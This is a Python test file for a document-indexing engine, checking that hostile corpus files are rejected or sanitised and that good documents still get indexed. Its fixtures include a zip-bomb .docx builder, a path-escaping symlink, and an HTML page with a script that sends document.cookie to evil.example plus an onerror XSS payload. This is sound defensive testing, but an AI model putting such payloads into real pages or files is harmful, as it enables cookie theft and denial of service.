"""Hostile documents: each is bounded in time and memory, reported and skipped or sanitised,
and nothing outside the corpus folder is read. The good documents beside them still index."""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx

from qa.engine import Verbatim

GOOD = "The alliance remains the cornerstone of peace and stability in the region."


def _zip_bomb_docx(path: Path) -> None:
    """A real .docx with one extra part of 300 MB of zeros: ~300 kB on disk."""
    plain = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Harmless looking text.")
    document.save(plain)
    with (
        zipfile.ZipFile(plain) as source,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out,
    ):
        for info in source.infolist():
            out.writestr(info, source.read(info))
        with out.open("word/padding.xml", "w") as part:
            for _ in range(300):
                part.write(bytes(1 << 20))


def test_hostile_files_are_bounded_reported_and_skipped(
    make_engine: Callable[..., Verbatim], tmp_path: Path
) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "good.txt").write_text(GOOD, encoding="utf-8")
    with (corpus / "huge.txt").open("wb") as huge:  # 100 MB (sparse: nothing to write)
        huge.truncate(100 * 1024 * 1024)
    (corpus / "program.txt").write_bytes(b"\x7fELF\x02\x01\x01" + os.urandom(64 * 1024))
    (corpus / "latin1.txt").write_bytes("r\xe9sum\xe9 of the talks \xff\xfe".encode("latin-1"))
    _zip_bomb_docx(corpus / "bomb.docx")
    (corpus / "broken.pdf").write_bytes(b"%PDF-1.7\n1 0 obj << /Type /Catalog >>\n%%EOF")
    depth = 20_000  # html.parser + BeautifulSoup take minutes on this
    (corpus / "deep.html").write_text(
        "<html><body>" + "<div>" * depth + "deep" + "</div>" * depth + "</body></html>"
    )
    (corpus / "page.html").write_text(
        "<html><head><title>Notice</title><script>fetch('https://evil.example/'+document.cookie)"
        "</script></head><body><p>Everyone read this &lt;!channel&gt; and &lt;@U123&gt; notice "
        "about the alliance.</p><img src=x onerror=alert(1)></body></html>",
        encoding="utf-8",
    )
    outside = tmp_path / "secret.txt"
    outside.write_text("The private key is hunter2.", encoding="utf-8")
    (corpus / "link.txt").symlink_to(outside)

    engine = make_engine(parse_timeout_s=5)
    report = engine.build_index([corpus])

    assert sorted(report.added) == ["good", "page"]
    reasons = {Path(error.path).name: error.reason for error in report.failed}
    assert set(reasons) == {
        "huge.txt",
        "program.txt",
        "latin1.txt",
        "bomb.docx",
        "broken.pdf",
        "deep.html",
        "link.txt",
    }
    assert "over the 52,428,800-byte limit" in reasons["huge.txt"]
    assert "binary" in reasons["program.txt"]
    assert "UTF-8" in reasons["latin1.txt"]
    assert "zip bomb" in reasons["bomb.docx"]
    assert "could not parse .pdf" in reasons["broken.pdf"]
    assert "over 5 s and was stopped" in reasons["deep.html"]
    assert "outside the corpus" in reasons["link.txt"]

    page = engine.document("page").text
    assert "evil.example" not in page and "onerror" not in page  # scripts are not text
    assert "<!channel>" in page  # kept verbatim; the Slack door escapes it (test_slack)
    every_text = " ".join(d.text for d in engine.documents())
    assert "hunter2" not in every_text
    assert engine.ask("What is the cornerstone of peace?").quotes[0].doc_id == "good"


def test_a_parse_over_the_memory_limit_is_stopped_and_the_next_file_is_read(
    make_engine: Callable[..., Verbatim], tmp_path: Path
) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    paragraph = "The alliance is the cornerstone of peace. " * 25 + "\n\n"
    (corpus / "a_big.txt").write_text(paragraph * 40_000, encoding="utf-8")  # 42 MB
    (corpus / "b_good.txt").write_text(GOOD, encoding="utf-8")

    report = make_engine(parse_memory_mb=256).build_index([corpus])

    assert report.added == ["b_good"]
    assert [Path(e.path).name for e in report.failed] == ["a_big.txt"]
    assert "256 MB memory limit" in report.failed[0].reason
